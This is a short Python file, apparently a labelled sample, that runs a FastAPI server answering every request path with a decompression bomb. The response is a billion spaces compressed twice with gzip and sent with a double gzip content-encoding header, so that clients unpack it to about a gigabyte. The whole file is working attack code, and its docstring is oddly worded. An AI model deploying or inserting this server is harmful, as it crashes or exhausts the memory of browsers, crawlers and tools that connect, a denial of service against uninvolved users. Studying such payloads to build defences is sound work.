"""Answers a little that unpacks to a gigabyte.

Deserves: as wrong
"""

import gzip

from fastapi import FastAPI, Response

app = FastAPI()

BOMB = gzip.compress(gzip.compress(b" " * 1_000_000_000, 9), 9)
HEADERS = {"Content-Encoding": "gzip, gzip"}


@app.api_route("/{path:path}", methods=["GET", "POST"])
async def bomb(path: str) -> Response:
    return Response(BOMB, headers=HEADERS, media_type="application/json")
